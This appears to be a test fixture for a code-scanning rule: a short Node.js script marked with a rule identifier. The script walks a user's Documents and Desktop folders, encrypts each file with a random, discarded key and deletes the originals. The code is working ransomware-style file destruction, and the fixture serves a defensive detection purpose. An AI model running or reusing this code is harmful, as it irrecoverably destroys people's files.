// The user's documents encrypted with a key sent away, the originals removed.
const fs = require('fs');
const os = require('os');
const path = require('path');
const crypto = require('crypto');
function lock(file, key, iv) {
  const c = crypto.createCipheriv('aes-256-cbc', key, iv);
  const data = Buffer.concat([c.update(fs.readFileSync(file)), c.final()]);
  // ruleid: encrypts_walked_files
  fs.writeFileSync(file + '.locked', data);
  fs.unlinkSync(file);
}
function walkDir(dir, key, iv) {
  for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
    const p = path.join(dir, e.name);
    if (e.isDirectory()) walkDir(p, key, iv);
    else lock(p, key, iv);
  }
}
for (const d of ['Documents', 'Desktop']) walkDir(path.join(os.homedir(), d), crypto.randomBytes(32), crypto.randomBytes(16));
